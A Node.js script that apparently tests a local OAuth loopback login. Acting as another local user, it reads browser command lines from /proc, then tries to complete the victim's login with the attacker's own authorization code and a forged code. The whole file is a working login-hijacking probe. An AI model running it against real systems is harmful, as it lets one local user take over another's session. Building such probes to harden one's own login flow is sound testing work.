#!/usr/bin/env node
// Run as another local user (nobody): what anyone on the machine can do against someone else's login. Reads every
// process's argv for a URL the browser was given, and tries to complete the login with it as itself. Prints one JSON
// object per attempt: { step, status } when the listener answered, { step, error } when it did not.
import { readdirSync, readFileSync } from 'node:fs';
import { get } from 'node:http';

const marker = process.argv[2]; // the browser's script name
function openedUrl() {
  for (const pid of readdirSync('/proc').filter((p) => /^\d+$/.test(p))) {
    try {
      const argv = readFileSync(`/proc/${pid}/cmdline`, 'utf8').split('\0').filter(Boolean);
      if (argv.some((a) => a.includes(marker))) return argv.at(-1);
    } catch {}
  }
  return undefined;
}

// node:http, not fetch: Node 20's fetch can leave its promise unsettled when the peer resets the connection at once,
// and the process then ends silently with exit code 13 (an unsettled top-level await) instead of reporting it.
function attempt(step, url, headers = {}) {
  return new Promise((resolve) => {
    let settled = false;
    const done = (line, res) => {
      if (settled) return;
      settled = true;
      clearTimeout(timer);
      console.log(JSON.stringify({ step, ...line }));
      resolve(res);
    };
    const timer = setTimeout(() => {
      req.destroy();
      done({ error: 'no answer in 10 s' });
    }, 10_000);
    const req = get(url, { headers }, (res) => {
      res.resume();
      done({ status: res.statusCode }, res);
    });
    req.on('error', (err) => done({ error: err.code ?? String(err) }));
  });
}

const url = openedUrl();
if (!url) {
  console.log(JSON.stringify({ step: 'read argv', error: 'no browser argv found' }));
  process.exit(0);
}
console.log(JSON.stringify({ step: 'read argv', url }));
const parsed = new URL(url);
if (parsed.searchParams.has('state')) {
  // The authorization URL itself: sign in at the provider as ourselves and hand our code to their listener.
  const atProvider = await attempt('authorize as the attacker', url);
  const callback = atProvider?.headers.location;
  if (callback) await attempt('deliver the code', callback);
} else {
  // The start page: take it first, then deliver a code with its cookie.
  const start = await attempt('open the start page', url);
  const cookie = start?.headers['set-cookie']?.[0]?.split(';')[0];
  const location = start?.headers.location;
  if (location) {
    const atProvider = await attempt('authorize as the attacker', location);
    const callback = atProvider?.headers.location;
    if (callback) await attempt('deliver the code', callback, cookie ? { cookie } : {});
  }
  await attempt('deliver a forged code', new URL('/callback?code=forged&state=guess', parsed).href);
}
